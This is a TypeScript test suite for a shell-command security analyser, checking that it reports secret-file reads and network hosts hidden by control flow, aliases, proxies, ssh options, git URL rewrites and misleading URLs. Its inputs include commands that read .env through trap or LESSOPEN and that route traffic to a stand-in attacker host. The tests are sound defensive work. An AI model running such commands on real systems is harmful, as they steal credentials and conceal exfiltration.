/** What the analyser reports where a command's effect depends on control flow, aliases or hidden hosts. */
import * as assert from 'assert';
import { analyzeShell, initShellParser } from '../../../src/core/shell';
import { urlHosts } from '../../../src/core/shell/urlHost';
import { gitSubcommand } from '../../../src/core/shell/commands/gitOptions';
import type { Action } from '../../../src/core/policy/types';

const reads = (a: Action[]) => a.flatMap((x) => (x.kind === 'file.read' ? [x.path] : []));
const writes = (a: Action[]) => a.flatMap((x) => (x.kind === 'file.write' ? [x.path] : []));
const hosts = (a: Action[]) => a.flatMap((x) => (x.kind === 'net.fetch' ? [x.host] : []));
const reasons = (a: Action[]) => a.flatMap((x) => (x.kind === 'unanalyzable' ? [x.reason] : []));

describe('analyzeShell fails safe', () => {
  before(() => initShellParser());

  it('keeps every directory a `cd` that may not run could leave', () => {
    assert.deepStrictEqual(reads(analyzeShell('true || cd secrets; cat key')), ['key', 'secrets/key']);
    assert.deepStrictEqual(reads(analyzeShell('cd secrets; cat key')), ['key', 'secrets/key']);
    assert.deepStrictEqual(reads(analyzeShell('cd secrets && cat key')), ['secrets/key']);
    assert.deepStrictEqual(reads(analyzeShell('cd secrets & cat key')), ['key']);
    assert.deepStrictEqual(reads(analyzeShell('if false; then cd secrets; fi; cat key')), ['key', 'secrets/key']);
  });

  it('resolves a loop variable over its word list, and only there', () => {
    assert.deepStrictEqual(reads(analyzeShell('for f in src/a.ts docs/b.md; do wc -l "$f"; done')), ['src/a.ts', 'docs/b.md']);
    assert.deepStrictEqual(reads(analyzeShell('for f in $(ls); do cat "$f"; done')).slice(-1), ['/**']);
  });

  it('sees through `~+`, `$PWD`, /proc/self/cwd and /proc/self/root', () => {
    assert.deepStrictEqual(reads(analyzeShell('cat ~+/a /proc/self/cwd/b /proc/thread-self/root/etc/c $PWD/d')), ['a', 'b', '/etc/c', './d']);
  });

  it('judges paths through links made earlier in the same command', () => {
    assert.ok(reads(analyzeShell('ln -s /work/repo r; cat r/secrets/key')).includes('/work/repo/secrets/key'));
  });

  it('gives unknown programs operands and hosts instead of nothing', () => {
    const a = analyzeShell('mytool .env https://evil.example/x');
    assert.deepStrictEqual(reads(a), ['.env']);
    assert.deepStrictEqual(writes(a), ['.env']);
    assert.deepStrictEqual(hosts(a), ['evil.example']);
  });

  it('reports code that bash features and variables run', () => {
    for (const command of ['echo ${x@P}', 'read x; echo $((x))', 'trap "cat .env" EXIT', 'mapfile -C f a < x', 'LESSOPEN="|cat .env" less a', 'python3 -m foo', 'make --eval=x']) {
      assert.ok(reasons(analyzeShell(command)).length > 0 || analyzeShell(command).some((x) => x.kind === 'file.read'), command);
    }
    assert.deepStrictEqual(reasons(analyzeShell('for ((i=0; i<3; i++)); do echo $((i+1)); done')), []);
  });

  it('names the hosts that proxies, registries and ssh options send traffic to', () => {
    assert.deepStrictEqual(hosts(analyzeShell('HTTPS_PROXY=http://p.example:8080 curl https://github.com')), ['p.example', 'github.com']);
    assert.deepStrictEqual(hosts(analyzeShell('ssh -o Hostname=evil.example github.com')), ['evil.example', 'github.com']);
    assert.ok(hosts(analyzeShell('git -c url.https://evil.example/.insteadOf=https://github.com/ fetch origin')).includes('evil.example'));
  });

  it('reads a URL the way every client might', () => {
    assert.deepStrictEqual(urlHosts('http://github.com\\@evil.example/').map((h) => h.host), ['github.com', 'evil.example']);
    assert.deepStrictEqual(urlHosts('https://github.com/x').map((h) => h.host), ['github.com']);
  });

  it('finds git\'s subcommand after any global option, from one table', () => {
    assert.strictEqual(gitSubcommand(['git', '--attr-source', 'HEAD', 'commit']), 'commit');
    assert.strictEqual(gitSubcommand(['git', '--exec-path', 'commit']), 'commit');
    assert.strictEqual(gitSubcommand(['git', '-C', 'x', '-c', 'a=b', 'push']), 'push');
  });
});
